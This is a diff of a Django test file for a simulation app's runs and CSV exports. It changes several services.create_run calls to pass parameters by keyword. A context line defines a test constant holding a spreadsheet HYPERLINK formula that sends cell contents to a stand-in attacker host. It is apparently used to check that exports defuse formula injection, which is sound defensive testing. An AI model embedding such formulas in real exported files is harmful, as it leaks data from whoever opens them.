@@ -25,7 +25,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 def finished_run(capture, params=PARAMS):
     with capture(execute=True):
-        run = services.create_run(params)
+        run = services.create_run(raw=params)
     run.refresh_from_db()
     assert (run.status, run.exports_status) == ("done", "ready")
     return run
@@ -122,7 +122,7 @@ def test_an_outage_while_writing_downloads_retries_and_replaces_the_partial_ones
     from hwsim.tasks import run_simulation
 
     with django_capture_on_commit_callbacks(execute=False):
-        run = services.create_run(PARAMS)
+        run = services.create_run(raw=PARAMS)
     text, attempts = exports._text, []
 
     def failing_once(result, name):
@@ -216,7 +216,7 @@ async def test_under_asgi_the_download_streams_part_by_part(inline_jobs, small_p
     from django.test import AsyncClient
 
     def make():
-        run = services.create_run(PARAMS)  # autocommit: the inline job runs at once
+        run = services.create_run(raw=PARAMS)  # autocommit: the inline job runs at once
         run.refresh_from_db()
         return run, to_csv(services.rerun(run), "requests").encode()
 
